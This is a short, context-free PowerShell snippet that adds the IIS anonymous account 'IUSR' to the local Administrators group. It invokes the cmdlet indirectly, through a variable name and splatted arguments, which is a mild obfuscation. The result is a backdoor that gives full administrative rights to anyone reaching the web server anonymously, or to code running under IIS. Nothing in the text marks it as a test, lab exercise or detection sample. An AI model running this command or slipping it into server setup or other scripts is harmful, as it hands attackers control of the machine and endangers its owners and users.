$a = @{ Group = 'Administrators'; Member = 'IUSR' }
$c = 'Add-LocalGroupMember'
& $c @a
